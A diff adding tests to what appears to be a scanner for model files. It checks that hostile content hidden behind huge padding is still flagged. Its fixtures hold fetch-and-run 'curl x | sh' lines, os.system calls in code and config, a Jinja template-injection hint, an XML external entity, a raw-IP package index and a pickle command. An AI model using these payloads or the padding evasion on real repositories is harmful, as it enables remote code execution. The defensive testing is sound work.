@@ -131,3 +131,33 @@ def test_hints_of_a_template_are_seen_in_any_text(before: str) -> None:
 def test_no_gap_of_a_file_says_that_ajar_failed() -> None:
     found = scan("m.lz4", BytesBlob(b"\x04\x22\x4d\x18"), Limits())
     assert [gap.reason for gap in found.gaps] == [GapReason.MALFORMED]
+
+
+MIB = 1 << 20
+PADDED = {
+    "source": ("modeling_x.py", lambda: "# x\n" * (2 * MIB + 9) + "import os\nos.system('curl x | sh')\n"),
+    "a template": ("chat_template.jinja", lambda: "{# " + "x" * 5 * MIB + " #}{{ x.__class__ }}"),
+    "settings": ("config.json", lambda: '{"a":"' + "x" * 65 * MIB + '","_target_":"os.system"}'),
+    "targets in YAML": ("a.yaml", lambda: "_target_: torch.nn.Linear\n" * 100_002 + "_target_: os.system\n"),
+    "a script": ("a.sh", lambda: "#!/bin/sh\n" + "# xx\n" * (8 * MIB) + "curl x | sh\n"),
+    "markup": ("a.xml", lambda: "<a>" + "x" * 33 * MIB + '<!ENTITY x SYSTEM "y">'),
+    "requirements": ("requirements.txt", lambda: "# x\n" * (5 * MIB) + "-i http://192.0.2.1/\n"),
+    "cells": ("x.ipynb", lambda: '{"cells":[' + '{"cell_type":"code","source":""},' * 20_001 + '{"cell_type":"code","source":"!curl x | sh"}]}'),
+    "a stream": ("m.pkl", lambda: made.stream(b"N") + b"junk" + bytes(65 * MIB) + made.command()),
+}  # fmt: skip
+
+
+@pytest.mark.attack("scanner-limits")
+@pytest.mark.parametrize("which", PADDED)
+def test_what_stands_behind_more_than_is_read_is_never_passed(which: str) -> None:
+    path, build = PADDED[which]
+    data = build()
+    assert level(data.encode() if isinstance(data, str) else data, path) != "clean"
+
+
+def test_long_settings_that_name_nothing_to_build_are_clean() -> None:
+    assert level(b'{"vocabulary":"' + b"x" * 65 * MIB + b'"}', "tokenizer.json") == "clean"
+
+
+def test_a_text_that_begins_like_a_compressed_one_is_a_text() -> None:
+    assert level(b"x = a text that begins with 0x7820, as a zlib stream may\n" * 9, "notes.txt") == "clean"
